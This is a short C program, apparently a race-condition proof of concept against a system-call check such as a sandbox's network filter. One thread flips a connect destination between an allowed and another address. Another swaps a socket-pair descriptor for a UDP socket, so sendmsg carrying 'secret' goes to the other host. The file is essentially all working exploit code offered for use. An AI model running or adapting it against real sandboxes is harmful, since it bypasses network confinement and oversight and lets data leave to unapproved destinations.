/* Two threads against the check: one makes the call, the other changes what it is about.
   Usage: race connect|sendmsg HOME ELSEWHERE PORT TRIES */
#define _GNU_SOURCE
#include <arpa/inet.h>
#include <errno.h>
#include <pthread.h>
#include <stdatomic.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <unistd.h>

static volatile struct sockaddr_in to;
static in_addr_t home, elsewhere;
static atomic_int over;
static int pair[2], udp, fd;

static void *flip_address(void *unused) {
  while (!over) {
    to.sin_addr.s_addr = elsewhere;
    to.sin_addr.s_addr = home;
  }
  return NULL;
}
static void *flip_descriptor(void *unused) {
  while (!over) {
    dup2(udp, fd);
    dup2(pair[0], fd);
  }
  return NULL;
}
int main(int argc, char **argv) {
  int sending = !strcmp(argv[1], "sendmsg");
  long tries = atol(argv[5]);
  char drain[64];
  pthread_t thread;
  inet_pton(AF_INET, argv[2], &home);
  inet_pton(AF_INET, argv[3], &elsewhere);
  to.sin_family = AF_INET;
  to.sin_port = htons(atoi(argv[4]));
  to.sin_addr.s_addr = home;
  socketpair(AF_UNIX, SOCK_DGRAM | SOCK_NONBLOCK, 0, pair);
  udp = socket(AF_INET, SOCK_DGRAM | SOCK_NONBLOCK, 0);
  fd = dup(pair[0]);
  pthread_create(&thread, NULL, sending ? flip_descriptor : flip_address, NULL);
  while (tries--) {
    if (sending) {
      /* For a socket pair the address is nonsense, for UDP it leads elsewhere. */
      struct sockaddr_in name = {.sin_family = AF_INET, .sin_port = to.sin_port, .sin_addr.s_addr = elsewhere};
      struct iovec data = {"secret", 6};
      struct msghdr message = {.msg_name = &name, .msg_namelen = sizeof name, .msg_iov = &data, .msg_iovlen = 1};
      sendmsg(fd, &message, 0);
      while (recv(pair[1], drain, sizeof drain, MSG_DONTWAIT) > 0) {}
    } else {
      int one = socket(AF_INET, SOCK_STREAM, 0);
      struct linger now = {1, 0};
      setsockopt(one, SOL_SOCKET, SO_LINGER, &now, sizeof now);
      connect(one, (struct sockaddr *)&to, sizeof to);
      close(one);
    }
  }
  over = 1;
  pthread_join(thread, NULL);
  return 0;
}
